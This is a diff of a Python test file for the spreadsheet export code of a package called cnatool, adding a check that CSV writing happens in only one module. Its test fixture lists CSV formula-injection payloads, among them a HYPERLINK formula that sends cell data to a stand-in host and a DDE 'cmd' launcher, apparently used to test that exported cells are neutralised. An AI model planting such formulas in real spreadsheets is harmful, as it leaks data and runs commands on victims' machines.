@@ -5,7 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import math
-from typing import TYPE_CHECKING
+import re
+from pathlib import Path
 
 import numpy as np
 import polars as pl
@@ -17,9 +18,6 @@ from typer.testing import CliRunner
 import cnatool
 from cnatool.cli.app import app
 from cnatool.spreadsheets import from_spreadsheet, to_spreadsheet, write_csv
-
-if TYPE_CHECKING:
-    from pathlib import Path
 
 _FORMULAS = [
     '=HYPERLINK("http://e.org?"&A1,"x")', "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
@@ -171,3 +169,13 @@ def test_samples(tmp_path: Path) -> None:
     assert whole["id"].to_list() == [f"{c}/{n}.png" for c in ("+a", "-b", "=1") for n in range(4)]
     assert text["id"].to_list() == ["'" + name for name in whole["id"]]
     np.testing.assert_array_equal(text["alpha"].to_numpy(), whole["alpha"].to_numpy())
+
+
+def test_csv_is_written_in_one_place() -> None:
+    package = Path(cnatool.__file__).parent
+    found = {
+        path.relative_to(package).as_posix()
+        for path in package.rglob("*.py")
+        if re.search(r"\.(write|sink)_csv\b|csv\.(writer|DictWriter)", path.read_text("utf-8"))
+    }
+    assert found == {"spreadsheets.py"}
